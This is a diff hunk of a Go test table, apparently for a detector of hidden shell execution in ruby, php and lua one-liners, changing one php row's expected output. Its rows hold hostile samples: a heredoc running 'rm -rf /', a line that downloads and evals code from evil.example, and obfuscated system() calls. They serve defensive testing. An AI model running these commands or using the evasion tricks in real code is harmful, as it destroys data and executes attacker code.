@@ -139,7 +139,7 @@ func TestTricks(t *testing.T) {
 		{"ruby -e", "method(:system).call('id')", "safe", "id"},
 		{"ruby -e", "system(<<~X)\n  rm -rf /\nX\n", "safe", "  rm -rf /\n"},
 		{"ruby -ropen-uri -e", "eval(URI.open('http://evil.example/x').read)", "unknown", ""},
-		{"php -r", "preg_replace_callback('/x/', 'system', 'x');", "safe", ""},
+		{"php -r", "preg_replace_callback('/x/', 'system', 'x');", "safe", "x"},
 		{"php -r", "$x = chr(115).chr(121).'stem'; $x('id');", "safe", "id"},
 		{"php -r", "array_map('system', ['id']);", "safe", "id"},
 		{"lua -e", "local f = io.popen; f('id')", "safe", "id"},
